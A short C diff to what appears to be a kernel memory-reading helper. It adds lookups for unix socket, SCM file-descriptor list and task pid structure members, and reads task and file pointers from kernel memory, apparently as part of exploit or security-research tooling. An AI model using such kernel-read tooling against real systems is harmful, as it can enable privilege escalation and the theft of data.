@@ -73,6 +73,17 @@ static const struct { const char *type, *member; } members[NR_KMEMBERS + 2] = {
 	[K_SHINFO_NR_FRAGS] = { "skb_shared_info", "nr_frags" },
 	[K_SHINFO_FRAG_LIST] = { "skb_shared_info", "frag_list" },
 	[K_SHINFO_FRAGS] = { "skb_shared_info", "frags" },
+	[K_UNIX_PEER] = { "unix_sock", "peer" },
+	[K_UNIX_OOB] = { "unix_sock", "oob_skb" },
+	[K_UCB_PID] = { "unix_skb_parms", "pid" },
+	[K_UCB_UID] = { "unix_skb_parms", "uid" },
+	[K_UCB_GID] = { "unix_skb_parms", "gid" },
+	[K_UCB_FP] = { "unix_skb_parms", "fp" },
+	[K_FPL_COUNT] = { "scm_fp_list", "count" },
+	[K_FPL_FP] = { "scm_fp_list", "fp" },
+	[K_TASK_PID] = { "task_struct", "thread_pid" },
+	[K_PID_LEVEL] = { "pid", "level" },
+	[K_PID_NUMBERS] = { "pid", "numbers" },
 	/* only to find a page of ours in a pipe */
 	{ "pipe_inode_info", "bufs" },
 	{ "pipe_buffer", "page" },
@@ -315,12 +326,17 @@ int kmem_get(struct kmem *k, uint64_t addr, enum kmember m, void *buf, size_t le
 	return k->at[m] < 0 || !addr ? -EOPNOTSUPP : kmem_read(k, addr + k->at[m], buf, len);
 }
 
+uint64_t kmem_task(struct kmem *k)
+{
+	run(k, 0, 0);
+	return k->room->task;
+}
+
 int kmem_file(struct kmem *k, int fd, uint64_t *file)
 {
 	uint64_t p;
-	int rc = run(k, 0, 0);
+	int rc = kmem_get(k, kmem_task(k), K_TASK_FILES, &p, sizeof(p));
 
-	rc = kmem_get(k, k->room->task, K_TASK_FILES, &p, sizeof(p));
 	if (!rc)
 		rc = kmem_get(k, p, K_FILES_FDT, &p, sizeof(p));
 	if (!rc)
@@ -390,7 +406,7 @@ static int find_direct(struct kmem *k, uint64_t pfn, const char *mine)
 static int find_pages(struct kmem *k, const long *at)
 {
 	char *mine = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED, -1, 0);
-	uint64_t pfn, page;
+	uint64_t pfn, page = 0;
 	int rc;
 
 	if (mine == MAP_FAILED)
